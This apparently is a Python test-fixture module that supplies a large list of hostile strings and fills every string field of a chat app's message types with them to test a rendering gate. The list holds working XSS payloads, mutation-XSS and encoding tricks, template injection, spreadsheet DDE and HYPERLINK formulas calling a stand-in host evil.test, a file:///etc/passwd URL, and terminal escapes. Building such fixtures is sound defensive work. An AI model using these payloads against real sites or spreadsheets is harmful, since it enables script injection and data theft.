"""Hostile texts, and ways to put one into every field that shows: what the gate T14 goes through."""

from __future__ import annotations

import types
import typing
from functools import cache
from itertools import count
from typing import Any

import msgspec

from ipygenesys._core.model import content as c
from ipygenesys._core.model.messages import Attachment, Message
from ipygenesys._core.view import protocol as vp

EVIL = "https://evil.test"

_RUN = "window.owned=1"
_ON = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "details open ontoggle",
    "input autofocus onfocus",
    "video onerror",
    "audio src=x onerror",
    "marquee onstart",
    "object data=x onerror",
    "select autofocus onfocus",
    "style onload",
    "iframe onload",
    "div style=animation-name:x onanimationstart",
    "a href=x onmouseover",
    "form onsubmit",
)
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
    "//evil.test/x",
    "\\\\evil.test\\x",
    "http://evil.test/x",
    "https:evil.test",
    "https://a@evil.test/x",
    "blob:https://evil.test/x",
    "file:///etc/passwd",
    "ftp://evil.test/x",
)

TEXTS: tuple[str, ...] = (
    # Scripts and handlers.
    f"<script>{_RUN}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"</script><script>{_RUN}</script>",
    *[f"<{element}={_RUN}>" for element in _ON],
    *[f'"><{element}="{_RUN}">' for element in _ON[:3]],
    *[f"' {element.split()[-1]}='{_RUN}' x='" for element in _ON[:3]],
    # Elements that fetch, leave, or change what is around them.
    f"<img src={EVIL}/x.png>",
    f'<img srcset="{EVIL}/x.png 1x">',
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import '{EVIL}/x.css'; * {{ display: none }}</style>",
    f'<div style="background:url({EVIL}/x.png)">',
    f"<base href={EVIL}/>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f"<iframe src={EVIL}></iframe><embed src={EVIL}><object data={EVIL}></object>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    f"<form action={EVIL}><button formaction=javascript:{_RUN}>Send</button></form>",
    f"<video poster={EVIL}/x.png><source src={EVIL}/x.mp4></video>",
    f'<svg><use href="{EVIL}/x.svg#x"/><image href="{EVIL}/x.png"/></svg>',
    f'<svg><animate attributeName=href values="javascript:{_RUN}"/><a><text>x</text></a></svg>',
    f'<math href="javascript:{_RUN}">x</math>',
    # What a second parser may read differently.
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f'<svg></p><style><a id="</style><img src=x onerror={_RUN}>">',
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"</textarea></title></style></xmp></noembed><img src=x onerror={_RUN}>",
    f"&lt;img src=x onerror={_RUN}&gt; &#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cimg src=x onerror={_RUN}\\u003e %3Cscript%3E{_RUN}%3C/script%3E",
    f"<scr\x00ipt>{_RUN}</scr\x00ipt> <scr<script>ipt>{_RUN}</script>",
    "＜script＞window.owned=1＜/script＞",
    "+ADw-script+AD4-window.owned=1+ADw-/script+AD4-",
    # Templates, Markdown, code.
    "{{constructor.constructor('window.owned=1')()}} ${window.owned=1} <%= 7*7 %> #{7*7}",
    f"[x](javascript:{_RUN}) ![x]({EVIL}/x.png) <javascript:{_RUN}> [x]: {EVIL}",
    f"[x]({EVIL}/x 'a' onmouseover={_RUN}) **<b>x</b>** <u onclick={_RUN}>x</u>",
    f"`<img src=x onerror={_RUN}>` ```html\n<script>{_RUN}</script>\n```",
    f"# <img src=x onerror={_RUN}>\n> <svg onload={_RUN}>\n\n| a |\n|--|\n| <script>{_RUN}</script> |",
    # Names that programs know.
    "__proto__",
    "constructor",
    "toString",
    "innerHTML",
    "[object Object]",
    # Marks that turn or hide.
    "exe.\u202egpj.nimda\u202c \u2066\u2067\u2068\u2069\u200f\u061c",
    "\u200b\u200c\u200d\ufeff\u2060 <b>\u2028</b>\u2029",
    "\x1b[2J\x1b]8;;https://evil.test\x07x \x07\x08\x7f",
    "\ufffe\uffff \ue000 \U000e0041",
    # A spreadsheet's formulas.
    '=HYPERLINK("https://evil.test/"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '","=1+1","',
    'a;=1+1;"=2+2"\t=3+3\n=4+4',
    "\uff1d1+1",
    *_ADDRESSES,
    *[f'<a href="{address}">x</a>' for address in _ADDRESSES],
)


@cache
def _fields(kind: type) -> tuple[tuple[str, Any], ...]:
    hints = typing.get_type_hints(kind)
    return tuple((name, hints[name]) for name in kind.__struct_fields__)  # type: ignore[attr-defined]


def filled(kind: Any, text: str, /, **known: Any) -> Any:
    """A value of this type with the text in every string that it holds, and one of each where there is a choice.

    A field that is new tomorrow is filled as well.
    """
    origin = typing.get_origin(kind)
    if origin is typing.Literal:
        return typing.get_args(kind)[0]
    if origin is tuple:
        inner = typing.get_args(kind)[0]
        return tuple(filled(each, text) for each in _choices(inner))
    if origin is list:
        return list(filled(tuple[kind.__args__[0], ...], text))
    if origin in (typing.Union, types.UnionType):
        return filled(_choices(kind)[0], text)
    if isinstance(kind, type) and issubclass(kind, msgspec.Struct):
        return kind(
            **{name: filled(hint, text) for name, hint in _fields(kind) if name not in known}, **known
        )
    if kind is str:
        return text
    return {int: 3, float: 1.5, bool: True}[kind]


def _choices(kind: Any) -> list[Any]:
    if typing.get_origin(kind) in (typing.Union, types.UnionType):
        return [each for each in typing.get_args(kind) if each is not types.NoneType]
    return [kind]


_numbers = count(1)


def shown_messages(text: str) -> list[vp.ViewMessage]:
    """One of somebody else's and a failed one of ours, with everything in them that a message can hold."""
    parts = filled(tuple[c.Content, ...], text)
    common: dict[str, Any] = {"full_length": 0, "unavailable": False, "withdrawn": False, "content": parts}
    time_ms = 1_790_000_000_000
    first, second = next(_numbers), next(_numbers)
    return [
        filled(
            vp.ViewMessage,
            text,
            **{**common, "id": f"{text}{first}", "time_ms": time_ms + first * 1000, "draft_id": None},
            is_own=False,
            status="unread",
            role="bot",
        ),
        filled(
            vp.ViewMessage,
            text,
            **{**common, "id": f"{text}{second}", "time_ms": time_ms + second * 1000},
            draft_id=f"{text}{second}",
            is_own=True,
            status="failed",
        ),
    ]


def known_message(text: str) -> Message:
    """The same for transcripts."""
    attachments = (filled(Attachment, text),)
    return filled(  # type: ignore[no-any-return]
        Message,
        text,
        time_ms=1_790_000_000_000,
        is_unavailable=False,
        is_withdrawn=False,
        attachments=attachments,
    )
